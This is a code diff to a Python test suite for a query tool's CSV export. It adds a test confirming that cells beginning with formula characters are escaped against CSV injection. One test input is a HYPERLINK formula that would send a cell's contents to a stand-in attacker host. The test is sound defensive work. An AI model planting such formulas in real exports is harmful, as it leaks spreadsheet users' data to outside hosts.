@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import socket
@@ -108,7 +110,21 @@ def test_query_params_and_formats(store: str) -> None:
     assert code == 0
     assert json.loads(out) == [{"name": "Kanye West", "born": "1977-06-08"}]
     code, out, _ = run("query", q, "--param", "id=kanye-west", "--store", store, "--format", "csv")
-    assert out.splitlines() == ["name,born", "Kanye West,1977-06-08"]
+    assert out.splitlines() == ['"name","born"', '"Kanye West","1977-06-08"']
+
+
+def test_query_csv_has_no_cell_a_spreadsheet_would_run(store: str) -> None:
+    """Text starting with = + - @ tab or carriage return gets a leading single quote (OWASP's
+    CSV-injection advice); numbers stay bare numbers, negative ones too."""
+    texts = {"a": '=HYPERLINK("http://evil.example/?"&A1)', "b": "+1", "c": "-x",
+             "d": "@SUM(A1)", "e": "\tx", "f": "\rx", "g": "plain = text"}
+    q = "RETURN " + ", ".join(f"${k} AS {k}" for k in texts) + ", -5 AS n, -1.5 AS x"
+    params = [f"--param={k}={v}" for k, v in texts.items()]
+    code, out, err = run("query", q, *params, "--store", store, "--format", "csv")
+    assert code == 0, err
+    header, row = csv.reader(io.StringIO(out), quoting=csv.QUOTE_NONNUMERIC)
+    assert header == [*texts, "n", "x"]
+    assert row == [*("'" + v for v in list(texts.values())[:-1]), "plain = text", -5, -1.5]
 
 
 @pytest.mark.parametrize(("args", "message"), [
